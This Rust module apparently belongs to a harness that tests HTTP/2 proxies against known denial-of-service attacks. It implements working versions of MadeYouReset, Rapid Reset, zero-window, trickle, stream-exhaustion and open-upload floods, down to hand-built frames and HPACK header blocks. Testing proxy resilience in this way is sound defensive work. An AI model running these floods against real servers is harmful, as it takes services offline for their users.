//! The attacks: what each of their connections does.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::time::sleep;

use super::foe::Foe;
use super::frames::{Code, data, flag, headers, priority, rst_stream, window_update};
use super::server::{HOLD, LARGE, SMALL};
use crate::tls::SERVER_NAME;

/// The largest window (RFC 9113, section 6.9.1), and the one that a connection begins with.
const WINDOW_MAX: u32 = (1 << 31) - 1;
const WINDOW: u32 = 65_535;
/// Requests of a connection at a time: as many as all proxies allow.
const STREAMS: usize = 100;
/// Requests that are made before they are reset.
const BATCH: usize = 50;
/// The same where a connection may have many.
pub const MANY_STREAMS: u32 = 10_000;
/// How often a slow client lets the proxy send a byte.
const TRICKLE: Duration = Duration::from_secs(10);
/// How long an attack takes, and one that needs time.
const SECONDS: u64 = 5;
const SLOW_SECONDS: u64 = 15;

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// MadeYouReset by a window beyond its maximum.
    ResetByWindow,
    /// MadeYouReset by a stream that depends on itself.
    ResetByPriority,
    /// MadeYouReset by more data than was announced.
    ResetByData,
    /// Requests that are reset while a server is at work on them.
    RapidReset,
    /// Requests on connections that are closed at once.
    CloseAgain,
    /// One connection with thousands of requests at a time.
    Busy,
    /// Large responses that are not read.
    Unread,
    /// Large responses for which there is no window.
    ZeroWindow,
    /// The same with a byte of window now and then.
    Trickle,
    /// Uploads that do not go on.
    OpenPosts,
}

impl Attack {
    /// What it is, for people.
    pub fn title(self) -> &'static str {
        match self {
            Self::ResetByWindow => "MadeYouReset, WINDOW_UPDATE beyond 2^31-1",
            Self::ResetByPriority => "MadeYouReset, PRIORITY on itself",
            Self::ResetByData => "MadeYouReset, DATA beyond content-length",
            Self::RapidReset => "Rapid reset",
            Self::CloseAgain => "100 requests, close, again",
            Self::Busy => "One connection with 10,000 requests at a time, all answered",
            Self::Unread => "Unread responses",
            Self::ZeroWindow => "Responses without a window",
            Self::Trickle => "A byte of window every 10 s",
            Self::OpenPosts => "10,000 open uploads",
        }
    }

    /// How it goes about it.
    pub fn words(self) -> &'static str {
        match self {
            Self::ResetByWindow | Self::ResetByPriority | Self::ResetByData | Self::RapidReset => {
                "16 connections. Each sends 50 requests, waits until the proxy has taken them (PING), has them reset, and so \
                 on; a connection that ends is opened again. The server answers none."
            }
            Self::CloseAgain => {
                "16 connections. Each sends 100 requests, waits until the proxy has taken them (PING), closes, and begins anew. \
                 The server answers none."
            }
            Self::Busy => {
                "The proxies are configured to allow 10,000 streams. As soon as a request is answered, the next one is sent. \
                 Responses of 128 bytes."
            }
            Self::Unread => {
                "100 connections of 100 requests for 10 MB each, with windows of 2^31-1 bytes. Nothing is read."
            }
            Self::ZeroWindow => "100 connections of 100 requests for 10 MB each. No stream has a window.",
            Self::Trickle => {
                "100 connections of 100 requests for 10 MB each. No stream has a window, but one more byte every 10 s."
            }
            Self::OpenPosts => {
                "100 connections of 100 POSTs each, which announce 1,000,000 bytes and send one of them."
            }
        }
    }

    /// Connections at a time.
    pub fn connections(self) -> usize {
        match self {
            Self::Busy => 1,
            Self::Unread | Self::ZeroWindow | Self::Trickle | Self::OpenPosts => 100,
            _ => 16,
        }
    }

    /// How many seconds it takes.
    pub fn seconds(self) -> u64 {
        if self.is_slow() { SLOW_SECONDS } else { SECONDS }
    }

    /// True if proxies are expected to bear it for some time.
    fn is_slow(self) -> bool {
        matches!(self, Self::ZeroWindow | Self::Trickle | Self::OpenPosts)
    }

    /// How many streams a connection must be allowed, unless the defaults do.
    pub fn streams(self) -> Option<u32> {
        (self == Self::Busy).then_some(MANY_STREAMS)
    }

    /// Opens a connection.
    ///
    /// # Errors
    /// The proxy takes none.
    pub async fn greet(self, address: SocketAddr) -> io::Result<Foe> {
        match self {
            Self::Unread => Foe::greet(address, WINDOW_MAX, false).await,
            Self::ZeroWindow | Self::Trickle => Foe::greet(address, 0, true).await,
            _ => Foe::greet(address, WINDOW, true).await,
        }
    }

    /// What a connection does, until the proxy or the attacker ends it.
    ///
    /// # Errors
    /// The proxy has ended it.
    pub async fn carry_out(self, foe: &mut Foe) -> io::Result<()> {
        match self {
            Self::ResetByWindow => {
                resets(foe, |id| whole(id, &get(HOLD)), |id| window_update(id, WINDOW_MAX)).await
            }
            Self::ResetByPriority => resets(foe, |id| whole(id, &get(HOLD)), |id| priority(id, id)).await,
            Self::ResetByData => {
                let begins = |id| headers(id, flag::END_HEADERS, post(HOLD, "1"));
                resets(foe, begins, |id| data(id, flag::NONE, "ab")).await
            }
            Self::RapidReset => {
                resets(foe, |id| whole(id, &get(HOLD)), |id| rst_stream(id, Code::CANCEL)).await
            }
            Self::CloseAgain => {
                ask(foe, STREAMS, &get(HOLD)).await?;
                foe.settle().await
            }
            Self::Busy => busy(foe).await,
            Self::Unread => {
                foe.send(&window_update(0, WINDOW_MAX - WINDOW)).await?;
                ask(foe, STREAMS, &get(LARGE)).await?;
                hold(foe).await
            }
            Self::ZeroWindow => {
                ask(foe, STREAMS, &get(LARGE)).await?;
                hold(foe).await
            }
            Self::Trickle => {
                let streams = ask(foe, STREAMS, &get(LARGE)).await?;
                loop {
                    foe.send(&each(&streams, |id| window_update(id, 1))).await?;
                    sleep(TRICKLE).await;
                }
            }
            Self::OpenPosts => {
                let block = post(HOLD, "1000000");
                for _ in 0..STREAMS {
                    let id = foe.open();
                    let begun = [headers(id, flag::END_HEADERS, &block), data(id, flag::NONE, "x")];
                    foe.send(&begun.concat()).await?;
                }
                hold(foe).await
            }
        }
    }
}

/// Sends so many requests without a body; their streams.
async fn ask(foe: &mut Foe, count: usize, block: &[u8]) -> io::Result<Vec<u32>> {
    let streams: Vec<u32> = (0..count).map(|_| foe.open()).collect();
    foe.send(&each(&streams, |id| whole(id, block))).await?;
    Ok(streams)
}

/// Sends what `asks`, and once that is under way what is `wrong`, for which the proxy resets it.
async fn resets(
    foe: &mut Foe,
    asks: impl Fn(u32) -> Vec<u8>,
    wrong: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    loop {
        let streams: Vec<u32> = (0..BATCH).map(|_| foe.open()).collect();
        foe.send(&each(&streams, &asks)).await?;
        foe.settle().await?;
        foe.send(&each(&streams, &wrong)).await?;
    }
}

/// Keeps the proxy busy with as many requests as it allows at a time.
async fn busy(foe: &mut Foe) -> io::Result<()> {
    foe.send(&window_update(0, WINDOW_MAX - WINDOW)).await?;
    let block = get(SMALL);
    let mut sent = 0;
    loop {
        let room = u64::from(MANY_STREAMS) - (sent - foe.seen.over());
        ask(foe, usize::try_from(room).unwrap_or_default(), &block).await?;
        sent += room;
        let over = foe.seen.over();
        // In pieces that are worth a system call.
        foe.answers((over + 100).min(sent)).await?;
    }
}

/// The frames of all `streams`.
fn each(streams: &[u32], frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    streams.iter().flat_map(|id| frames(*id)).collect()
}

/// A request without a body.
fn whole(id: u32, block: &[u8]) -> Vec<u8> {
    headers(id, flag::WHOLE, block)
}

/// Does nothing any more.
async fn hold(foe: &Foe) -> io::Result<()> {
    foe.ended().await;
    Ok(())
}

/// The field block of a GET.
fn get(path: &str) -> Vec<u8> {
    // From HPACK's static table (RFC 7541, appendix A): GET and the scheme; then `:path` and `:authority` with literal values.
    [&[0x82, 0x86][..], &literal(0x04, path), &literal(0x01, SERVER_NAME)].concat()
}

/// The same of a POST whose body has such a length.
fn post(path: &str, length: &str) -> Vec<u8> {
    // The index of `content-length`, 28, does not fit the four bits of the first byte.
    let length = [&[0x0f, 28 - 15], &string(length)[..]].concat();
    [&[0x83, 0x86][..], &literal(0x04, path), &literal(0x01, SERVER_NAME), &length].concat()
}

/// A field without indexing whose name has this index.
fn literal(index: u8, value: &str) -> Vec<u8> {
    [vec![index], string(value)].concat()
}

fn string(text: &str) -> Vec<u8> {
    // All of them are shorter than the 127 bytes from which a length takes more than a byte.
    [&[text.len() as u8], text.as_bytes()].concat()
}
